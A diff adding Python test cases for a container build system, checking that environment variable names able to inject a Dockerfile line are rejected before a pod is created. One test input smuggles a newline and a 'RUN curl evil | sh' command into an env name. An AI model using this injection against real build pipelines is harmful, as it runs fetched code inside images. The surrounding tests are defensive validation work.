@@ -428,6 +428,29 @@ def test_manifest_is_a_valid_pod_for_the_kubernetes_client() -> None:
             "CannotCreateBuildPodSpec",
             "customStrategy",
         ),
+        # An env name that would add a Dockerfile line (a webhook's allowEnv
+        # env lands in the strategy's env): refused before any pod exists.
+        (
+            make_build(
+                {
+                    "sourceStrategy": {
+                        "from": {"kind": "DockerImage", "name": BUILDER},
+                        "env": [{"name": "X=1\nRUN curl evil | sh", "value": "v"}],
+                    }
+                },
+                resolved=True,
+            ),
+            "ManageDockerfileFailed",
+            "sourceStrategy env name 'X=1\\nRUN curl evil | sh'",
+        ),
+        (
+            make_build(
+                {"dockerStrategy": {"env": [{"name": "A B", "value": "v"}]}},
+                resolved=True,
+            ),
+            "ManageDockerfileFailed",
+            "dockerStrategy env name 'A B'",
+        ),
     ],
 )
 def test_a_build_that_cannot_run_is_a_typed_error(
